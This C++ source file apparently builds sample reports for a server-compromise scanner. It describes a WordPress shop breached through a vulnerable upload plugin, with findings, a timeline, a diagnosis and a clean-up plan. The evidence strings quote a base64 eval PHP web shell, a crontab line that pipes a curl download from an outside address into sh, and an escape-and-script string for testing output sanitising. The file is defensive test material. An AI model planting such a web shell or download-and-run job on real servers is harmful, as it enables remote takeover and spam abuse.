// SPDX-License-Identifier: Apache-2.0
#include "report/samples.h"

namespace abate::report::samples {
namespace {

Instant at(std::string_view text) { return parse_rfc3339(text).value(); }

Finding finding(std::string detector, Area area, Severity severity, Subject subject, std::string when, std::string why,
                std::vector<std::string> evidence, std::vector<std::string> leads = {}) {
  Finding out;
  out.detector = std::move(detector);
  out.area = area;
  out.severity = severity;
  out.id = finding_id(out.detector, subject);
  out.subject = std::move(subject);
  if (!when.empty()) out.at = at(when);
  out.why = std::move(why);
  out.evidence = std::move(evidence);
  out.leads = std::move(leads);
  return out;
}

Subject named(SubjectKind kind, std::string name, std::string path = {}, std::uint32_t line = 0) {
  Subject subject;
  subject.kind = kind;
  subject.name = std::move(name);
  subject.path = std::move(path);
  subject.line = line;
  return subject;
}

void set_host(Outcome& out) {
  out.host_name = "shop1";
  out.os = "Debian GNU/Linux 12 (bookworm)";
  out.live = true;
  out.started_at = at("2026-03-04T09:12:00Z");
  out.finished_at = at("2026-03-04T09:12:31Z");
  out.files = 84'213;
  out.bytes = 1'734'000'000;
  out.log_lines = 412'907;
  out.wall_seconds = 30.8;
  out.peak_memory_bytes = 47'300'000;
}

}  // namespace

// An escape sequence, a line end, a C1 control, a bidirectional override, a broken byte, and markup.
const std::string kHostile =
    "\x1b[2J\x1b]0;gone\x07\r\nx\t\x7f\xc2\x9b"
    "31m\xe2\x80\xae"
    "gpj.exe\xff<script>alert(1)</script>\"'&`</title></style>-->";

Outcome clean_server() {
  Outcome out;
  set_host(out);
  out.findings = {
      finding("sshd_password_login", Area::accounts, Severity::note,
              named(SubjectKind::config, "", "/etc/ssh/sshd_config", 57), "", "SSH takes passwords, not only keys",
              {"/etc/ssh/sshd_config:57: PasswordAuthentication yes"}),
      finding("listening_service", Area::mail_network, Severity::note, named(SubjectKind::unit, "nginx.service"), "",
              "Port 443 is open to the world", {}),
  };
  out.not_examined = {{"/var/lib/mysql/shop/orders.ibd", "database pages are not read offline"},
                      {"/var/lib/mysql/shop/users.ibd", "database pages are not read offline"},
                      {"/mnt/backup", "a network file system is not entered"}};
  return out;
}

Outcome without_diagnosis() {
  Outcome out;
  set_host(out);
  out.manuals = {
      {"php_decoded_eval",
       {"PHP runs a decoded blob",
        "Intruders hide a shell as base64 and run it with eval(). Whoever knows its address can run anything as the "
        "web "
        "server's user. False alarms: old licence checkers."}},
      {"web_post_burst",
       {"Requests to a file that is not part of the application",
        "Somebody outside sends commands to a script that no page of the site links to."}},
      {"cron_downloads",
       {"A scheduled job fetches and runs a program",
        "The job brings the intruder's program back after it was deleted. Few honest jobs pipe a download into a "
        "shell."}},
      {"web_user_mail",
       {"The web server's user sends mail in bulk", "Mails leave through PHP's mail(), as fast as the server can."}},
      {"vulnerable_plugin",
       {"A plugin with a known hole",
        "A plugin of this version lets anybody upload files. Its maker has mended it since."}},
      {"upload_folder_php",
       {"PHP in a folder for uploads",
        "Uploads are pictures and documents; a program there was hardly put by the owner."}},
      {"open_redis",
       {"Redis takes commands from everybody", "Anybody who reaches the port can write files as its user."}},
  };
  const auto shell = "/var/www/shop/wp-content/uploads/2026/02/thumb.php";
  Subject shell_subject = file_subject(shell, 1);
  shell_subject.sha256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
  Subject redis;
  redis.kind = SubjectKind::port;
  redis.port = 6379;
  redis.address = "0.0.0.0";
  redis.protocol = "tcp";
  redis.path = "/etc/redis/redis.conf";
  redis.line = 88;
  out.findings = {
      finding("php_decoded_eval", Area::web, Severity::malicious, shell_subject, "2026-02-27T02:14:09Z",
              "PHP runs a decoded blob",
              {std::string{shell} + ":1: <?php $k=\"c2hvcA\";@eval(base64_decode($_POST[\"x\"]));"},
              {"script:33:thumb.php"}),
      finding("web_post_burst", Area::web, Severity::malicious, file_subject(shell), "2026-02-27T02:15:40Z",
              "412 POST requests from 198.51.100.7 and 2 others to a file that is not part of WordPress",
              {"/var/log/nginx/access.log.1:20411: 198.51.100.7 - - [27/Feb/2026:02:15:40 +0000] \"POST "
               "/wp-content/uploads/2026/02/thumb.php HTTP/1.1\" 200 31",
               "/var/log/nginx/access.log.1:20415: 198.51.100.7 - - [27/Feb/2026:02:15:52 +0000] \"POST "
               "/wp-content/uploads/2026/02/thumb.php HTTP/1.1\" 200 44"}),
      finding("cron_downloads", Area::processes, Severity::malicious,
              named(SubjectKind::cron, "www-data", "/var/spool/cron/crontabs/www-data", 3), "2026-02-27T02:31:00Z",
              "A job of www-data fetches a program and runs it every 15 minutes",
              {"/var/spool/cron/crontabs/www-data:3: */15 * * * * curl -s http://203.0.113.99/u | sh"}),
      finding("web_user_mail", Area::mail_network, Severity::malicious, named(SubjectKind::account, "www-data"),
              "2026-03-03T22:01:10Z", "18,204 mails by uid 33 within 6 hours, by thumb.php",
              {"/var/log/mail.log:99120: postfix/pickup[811]: 4XyZ7k2q: uid=33 from=<www-data>",
               "/var/log/mail.log:99121: postfix/cleanup[815]: 4XyZ7k2q: message-id=<a1@shop.example>"},
              {"queue_id:4XyZ7k2q", "message_id:<a1@shop.example>"}),
      finding("vulnerable_plugin", Area::web, Severity::weak,
              named(SubjectKind::package, "file-gallery 2.1.3", "/var/www/shop/wp-content/plugins/file-gallery"), "",
              "file-gallery 2.1.3 lets anybody upload files; 2.1.4 does not",
              {"/var/www/shop/wp-content/plugins/file-gallery/readme.txt:6: Stable tag: 2.1.3"}),
      finding("open_redis", Area::mail_network, Severity::weak, redis, "",
              "Redis listens on every address, without a password", {"/etc/redis/redis.conf:88: bind 0.0.0.0"}),
      finding("sshd_password_login", Area::accounts, Severity::note,
              named(SubjectKind::config, "", "/etc/ssh/sshd_config", 57), "", "SSH takes passwords, not only keys", {}),
  };
  for (int i = 1; i <= 9; ++i)
    out.findings.push_back(
        finding("upload_folder_php", Area::web, Severity::suspicious,
                file_subject(fmt::format("/var/www/shop/wp-content/uploads/2026/02/cache-{}.php", i)),
                fmt::format("2026-02-27T02:4{}:00Z", i), "PHP in a folder for uploads", {}));
  out.not_examined = clean_server().not_examined;
  out.not_examined.emplace_back("process 811", "it ended while it was looked at");
  return out;
}

Outcome compromised_server() {
  Outcome out = without_diagnosis();
  out.ticket = "T-2026-000123";
  const auto id = [&](std::size_t i) { return out.findings.at(i).id; };
  Diagnosis diagnosis;
  diagnosis.ticket = out.ticket;
  diagnosis.verdict = SweepVerdict::cause_found;
  diagnosis.confidence = 0.93;
  diagnosis.entry = WayIn{
      EntryKind::vulnerable_application, file_subject("/var/www/shop/wp-content/plugins/file-gallery/upload.php"),
      "198.51.100.7", at("2026-02-27T02:14:08Z"), "Somebody uploaded a program through the plugin file-gallery 2.1.3"};
  diagnosis.cause = {
      {Step::entry,
       id(4),
       at("2026-02-27T02:14:08Z"),
       "Somebody at 198.51.100.7 used a hole in the plugin file-gallery 2.1.3 to upload a program.",
       {"the upload request came one second before the file appeared"}},
      {Step::foothold,
       id(0),
       at("2026-02-27T02:14:09Z"),
       "The program thumb.php lets its owner run anything as the web server's user.",
       {"same client within 92 s"}},
      {Step::persistence,
       id(2),
       at("2026-02-27T02:31:00Z"),
       "A scheduled job of www-data brings the program back every 15 minutes.",
       {"written by the same user, 17 minutes later"}},
      {Step::harm,
       id(3),
       at("2026-03-03T22:01:10Z"),
       "From here thumb.php sent 18,204 mails; the reported one was among them.",
       {"queue id 4XyZ7k2q of the ticket", "X-PHP-Originating-Script: 33:thumb.php"}},
  };
  diagnosis.timeline = {
      {at("2026-02-26T23:50:31Z"), "First request by 198.51.100.7: /readme.html", "/var/log/nginx/access.log.1:20102",
       true},
      {at("2026-02-27T02:14:08Z"), "POST to file-gallery/upload.php, 200", "/var/log/nginx/access.log.1:20409", true},
      {at("2026-02-27T02:14:09Z"), "thumb.php written", "/var/www/shop/wp-content/uploads/2026/02/thumb.php", false},
      {at("2026-02-27T02:15:40Z"), "POST to thumb.php, 200", "/var/log/nginx/access.log.1:20411", true},
      {at("2026-02-27T02:31:00Z"), "crontab of www-data replaced", "/var/log/syslog.1:5512", false},
      {at("2026-03-01T11:00:12Z"), "Log-in of shopadmin from 192.0.2.44", "/var/log/auth.log:120", false},
      {at("2026-03-03T22:01:10Z"), "First of 18,204 mails by uid 33", "/var/log/mail.log:99120", false},
      {at("2026-03-04T03:58:44Z"), "Last of 18,204 mails by uid 33", "/var/log/mail.log:153902", false},
      {at("2026-03-04T04:20:00Z"), "The report's time", "ticket", false},
  };
  diagnosis.intruders = {"198.51.100.7", "203.0.113.99"};
  diagnosis.rivals = {{EntryKind::stolen_password, 0.12,
                       "A stolen WordPress password: shopadmin logged in from a new network, but later."}};
  diagnosis.grounds = {"The reported mail's queue id is in this server's mail log.",
                       "The script that sent it was written one second after an upload by an outsider."};
  diagnosis.next_steps = {"Update file-gallery to 2.1.4 or take it away, or the same will come in again.",
                          "Change the passwords of WordPress and of the database: the intruder could read both."};
  out.diagnosis = diagnosis;
  Plan plan;
  plan.ticket = out.ticket;
  plan.made_at = out.finished_at;
  const auto action = [&](std::string kind, std::string requirement, Subject subject, std::vector<std::string> findings,
                          std::string why, std::string effect, std::string undo, std::string proof, bool is_default) {
    Action one;
    one.kind = std::move(kind);
    one.requirement = std::move(requirement);
    one.subject = std::move(subject);
    one.findings = std::move(findings);
    one.why = std::move(why);
    one.effect = std::move(effect);
    one.undo = std::move(undo);
    one.proof = std::move(proof);
    one.is_default = is_default;
    one.id = action_id(one);
    plan.actions.push_back(std::move(one));
  };
  action("quarantine_file", "R20", out.findings[0].subject, {id(0), id(1)}, "It is the intruder's program.",
         "None: no page of the shop uses it.", "Put back byte for byte, with owner and times.",
         "The file is gone, and its address answers 404.", true);
  action("disable_cron", "R26", out.findings[2].subject, {id(2)}, "It brings the program back.", "None.",
         "The line is put back.", "The crontab holds no such line, also after 15 minutes.", true);
  action("disable_plugin", "R23", out.findings[4].subject, {id(4)}, "It is the way in.",
         "The gallery's pages show no pictures until the plugin is updated.", "The plugin is switched on again.",
         "Its upload address answers 404.", true);
  action("block_egress", "R22", named(SubjectKind::port, ""), {}, "Only the mail server needs to reach port 25.",
         "Programs that send mail by themselves cannot any more.", "The rule is taken out.",
         "A connection to port 25 as www-data is refused.", false);
  plan.actions.back().subject.port = 25;
  plan.actions.back().subject.protocol = "tcp";
  out.plan = plan;
  return out;
}

Outcome hostile_server() {
  Outcome out = compromised_server();
  const std::string& evil = kHostile;
  out.host_name = out.os = out.ticket = out.root = evil;
  out.live = false;
  out.not_examined.emplace_back(evil, evil);
  out.manuals["evil" + evil] = {evil, evil};
  out.findings.push_back(finding("evil" + evil, Area::logs, Severity::malicious, file_subject("/" + evil, 3), "", evil,
                                 {evil, evil}, {evil}));
  for (int kind = 0; kind <= static_cast<int>(SubjectKind::container); ++kind) {
    Subject subject = named(static_cast<SubjectKind>(kind), evil, evil, 1);
    subject.address = subject.protocol = evil;
    out.findings.push_back(
        finding("every_kind", Area::malware, Severity::suspicious, subject, "", evil, {evil}, {evil}));
  }
  Diagnosis& diagnosis = *out.diagnosis;
  diagnosis.entry->says = diagnosis.entry->from = evil;
  for (CauseStep& step : diagnosis.cause) step.says = evil, step.reasons = {evil};
  for (TimelineRow& row : diagnosis.timeline) row.says = row.source = evil;
  diagnosis.intruders = diagnosis.grounds = diagnosis.next_steps = {evil};
  diagnosis.rivals[0].says = evil;
  out.plan->warnings = {evil};
  for (Action& action : out.plan->actions) {
    action.id = action.kind = action.requirement = action.why = action.effect = action.risk = evil;
    action.undo = action.proof = action.subject.path = evil;
  }
  return out;
}

}  // namespace abate::report::samples
